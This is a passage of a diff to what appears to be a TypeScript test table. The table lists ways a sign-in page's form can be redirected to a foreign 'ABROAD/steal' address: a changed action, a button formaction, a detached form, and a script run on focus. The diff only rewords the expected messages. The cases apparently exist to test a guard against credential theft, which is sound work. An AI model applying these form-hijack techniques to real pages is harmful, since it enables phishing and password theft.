@@ -53,30 +53,30 @@ const WAYS: readonly (readonly [
   [
     'a form that goes there',
     (html, abroad) => html.replace('action="/sign-in"', `action="${abroad}/steal"`),
-    'nothing is typed at OWN into a form that goes to ABROAD',
+    'nothing is typed at OWN into a form that submits to ABROAD',
   ],
   [
     'a form that goes there, with a field called action',
     (html, abroad) =>
       html.replace('action="/sign-in">', `action="${abroad}/steal"><input type="hidden" name="action">`),
-    'nothing is typed at OWN into a form that goes to ABROAD',
+    'nothing is typed at OWN into a form that submits to ABROAD',
   ],
   [
     'a button that sends its form there',
     (html, abroad) => html.replace('<button', `<button formaction="${abroad}/steal"`),
-    'nothing is typed at OWN into a form that goes to ABROAD',
+    'nothing is typed at OWN into a form that submits to ABROAD',
   ],
   [
     'a field outside of its form',
     (html, abroad) =>
       html.replace('type="password"', 'type="password" form="f"') +
       `<form id="f" method="post" action="${abroad}/steal"></form>`,
-    'nothing is typed at OWN into a form that goes to ABROAD',
+    'nothing is typed at OWN into a form that submits to ABROAD',
   ],
   [
     'a form that goes there once its field has the focus',
     (html, abroad) => focus(`document.forms[0].action = '${abroad}/steal'`)(html),
-    'nothing is typed at OWN into a form that goes to ABROAD',
+    'nothing is typed at OWN into a form that submits to ABROAD',
   ],
   [
     'a form that goes there once it is sent',
